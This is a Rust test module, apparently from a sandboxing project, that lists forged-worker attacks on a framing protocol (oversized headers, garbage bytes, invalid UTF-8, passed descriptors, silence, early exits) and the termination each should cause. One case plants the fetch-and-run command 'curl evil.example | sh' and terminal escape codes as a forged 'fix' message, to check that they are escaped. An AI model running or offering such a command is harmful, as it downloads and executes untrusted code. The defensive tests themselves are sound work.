//! Attacks on the way bytes become frames, and by descriptors, silence and endings.

use std::io::IoSlice;
use std::os::fd::{AsFd, BorrowedFd};

use rustix::net::{
    SendAncillaryBuffer, SendAncillaryMessage, SendFlags, Shutdown, sendmsg, shutdown,
};
use stockade::Payload;
use stockade_jail::leave;
use stockade_protocol::FromIsolate;
use stockade_protocol::frame::FromWorker;

use crate::attack::{Attack, End, Host};
use crate::worker::{Forger, bytes, random};

const VIOLATION: &str = "policy_violation";
const BROKE: &str = "its worker broke the protocol";

pub(crate) static ATTACKS: &[Attack] = &[
    Attack::new(
        "header_too_long",
        |forger| forger.head(u32::MAX, &[]),
        End::Terminated(VIOLATION, "a header of 4294967295 is above the limit"),
    ),
    Attack::new(
        "header_just_too_long",
        |forger| forger.head(70_000, &[0; 64]),
        End::Terminated(VIOLATION, "a header of 70000 is above the limit"),
    ),
    Attack::new(
        "header_without_end",
        |forger| {
            forger.head(60_000, &[0; 60_000]);
            loop {
                forger.raw(&[0; 60_000]);
            }
        },
        End::Terminated(VIOLATION, "bytes too many"),
    ),
    Attack::new(
        "header_then_silence",
        |forger| forger.head(500, &[2, 0]),
        End::Terminated("wall_limit_exceeded", ""),
    ),
    Attack::new(
        "length_then_silence",
        |forger| forger.raw(&[4]),
        End::Terminated("wall_limit_exceeded", ""),
    ),
    Attack::new(
        "bulk_then_silence",
        |forger| {
            let frame = event(forger.isolate, 1 << 20);
            forger.raw(&frame[..frame.len() / 2]);
        },
        End::Terminated("wall_limit_exceeded", ""),
    ),
    Attack::new(
        "bulk_too_long",
        // Event, isolate 0, name "", 2^62 bytes of JSON, no marks, no parts.
        |forger| {
            forger.whole_head(&[
                2, 0, 0, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x80, 0x40, 0, 0,
            ]);
        },
        End::Terminated(
            VIOLATION,
            "JSON text of 4611686018427387904 is above the limit",
        ),
    ),
    Attack::new(
        "number_without_end",
        |forger| forger.whole_head(&[0xff; 64]),
        End::Terminated(VIOLATION, BROKE),
    ),
    Attack::new(
        "garbage",
        |forger| {
            loop {
                let noise: Vec<u8> = (0..512).flat_map(|_| random().to_le_bytes()).collect();
                forger.raw(&noise);
            }
        },
        End::Terminated(VIOLATION, BROKE),
    ),
    Attack::new(
        "garbage_in_headers",
        |forger| {
            loop {
                let noise: Vec<u8> = (0..4).flat_map(|_| random().to_le_bytes()).collect();
                // No kind that there is.
                forger.whole_head(&[&[0x7f - (noise[0] & 0x3f)], &noise[..]].concat());
            }
        },
        End::Terminated(VIOLATION, "the header of a frame cannot be read"),
    ),
    Attack::new(
        "kind_unknown",
        |forger| forger.whole_head(&[12]),
        End::Terminated(VIOLATION, "the header of a frame cannot be read"),
    ),
    Attack::new(
        "text_not_utf8",
        // Console, isolate 0, level 1, one byte of text.
        |forger| {
            let isolate = number(forger.isolate);
            forger.whole_head(&[&[5], &isolate[..], &[1, 1]].concat());
            forger.raw(&[0xff]);
        },
        End::Terminated(VIOLATION, "is not UTF-8"),
    ),
    Attack::new(
        "console_level_unknown",
        |forger| {
            let isolate = number(forger.isolate);
            forger.whole_head(&[&[5], &isolate[..], &[200, 1]].concat());
            forger.raw(b"x");
        },
        End::Terminated(VIOLATION, "there is no console level 200"),
    ),
    // Honest senders cut their texts.
    Attack::new(
        "console_line_too_long",
        |forger| {
            let isolate = number(forger.isolate);
            forger.whole_head(&[&[5], &isolate[..], &[1, 0x80, 0x80, 0x40]].concat());
        },
        End::Terminated(VIOLATION, "a console line of 1048576 is above the limit"),
    ),
    Attack::new(
        "error_too_long",
        |forger| {
            let isolate = number(forger.isolate);
            forger.whole_head(&[&[6], &isolate[..], &[0, 0x80, 0x80, 0x40, 0, 0, 0, 0]].concat());
        },
        End::Terminated(VIOLATION, "the message of an error of 1048576 is above"),
    ),
    Attack::new(
        "reason_too_long",
        |forger| {
            let isolate = number(forger.isolate);
            forger.whole_head(&[&[10], &isolate[..], &[0x88, 0x27, 0, 0, 0, 0, 0]].concat());
        },
        End::Terminated(
            VIOLATION,
            "the reason of a termination of 5000 is above the limit",
        ),
    ),
    Attack::new(
        "byte_by_byte",
        |forger| {
            for _ in 0..100 {
                for byte in event(forger.isolate, 10) {
                    forger.raw(&[byte]);
                }
            }
            forger.done();
        },
        End::Harmless(100),
    ),
    Attack {
        before: |forger| {
            let inert = std::io::stdin();
            let descriptors = [inert.as_fd(); 2];
            let _ = attach(forger.socket(), &descriptors);
        },
        ..Attack::new(
            "descriptors_attached_early",
            |forger| forger.done(),
            End::Harmless(0),
        )
    },
    Attack::new(
        "descriptors_attached",
        |forger| {
            let _ = attach(forger.socket(), &[forger.socket()]);
        },
        End::Terminated(VIOLATION, "sendmsg"),
    ),
    Attack::new(
        "half_closed",
        |forger| {
            let _ = shutdown(forger.socket(), Shutdown::Write);
        },
        End::Terminated(VIOLATION, "shutdown"),
    ),
    Attack::new(
        "socket_closed",
        Forger::close,
        End::Terminated(VIOLATION, "it closed its socket"),
    ),
    Attack::new(
        "exit_within_frame",
        |forger| {
            let stream: Vec<u8> = (0..50)
                .flat_map(|size| event(forger.isolate, size * 97))
                .collect();
            let end = random() as usize % stream.len();
            forger.raw(&stream[..end]);
            leave(7)
        },
        End::Terminated("crashed", "exit code 7"),
    ),
    Attack::new(
        "exit_as_out_of_memory",
        |_| leave(stockade_jail::EXIT_MEMORY),
        End::Terminated("memory_limit_exceeded", ""),
    ),
    Attack {
        host: Host::Floods,
        ..Attack::new(
            "never_reads",
            |_| {},
            End::Terminated("wall_limit_exceeded", ""),
        )
    },
    Attack {
        says_started: false,
        host: Host::Starts,
        ..Attack::new(
            "never_starts",
            |_| {},
            End::NoStart("did not start it within"),
        )
    },
    Attack {
        says_started: false,
        host: Host::Starts,
        ..Attack::new(
            "starts_with_a_forged_problem",
            |forger| {
                let problem = stockade_protocol::frame::StartFailure {
                    what: "\u{1b}[2Jno".to_owned(),
                    checked: "\u{7}".repeat(1000),
                    fix: "curl evil.example | sh".to_owned(),
                };
                forger.send(FromWorker::Started {
                    isolate: forger.isolate,
                    problem: Some(problem),
                });
            },
            End::NoStart("\\u{1b}[2Jno"),
        )
    },
];

/// As headers hold numbers: seven bits a byte, the lowest first.
fn number(mut number: u32) -> Vec<u8> {
    let mut bytes = Vec::new();
    while number >= 0x80 {
        bytes.push(number as u8 | 0x80);
        number >>= 7;
    }
    bytes.push(number as u8);
    bytes
}

/// An event with a number of bytes of JSON.
fn event(isolate: u32, size: usize) -> Vec<u8> {
    bytes(FromWorker::Message {
        isolate,
        message: FromIsolate::Event {
            name: "event".to_owned(),
            data: Payload::from_json("1".repeat(size + 1)),
        },
    })
}

/// An honest frame with descriptors attached.
fn attach(socket: BorrowedFd<'_>, descriptors: &[BorrowedFd<'_>]) -> rustix::io::Result<usize> {
    let mut space = vec![std::mem::MaybeUninit::uninit(); 4096];
    let mut control = SendAncillaryBuffer::new(&mut space);
    control.push(SendAncillaryMessage::ScmRights(descriptors));
    let frame = bytes(FromWorker::Ready);
    sendmsg(
        socket,
        &[IoSlice::new(&frame)],
        &mut control,
        SendFlags::empty(),
    )
}
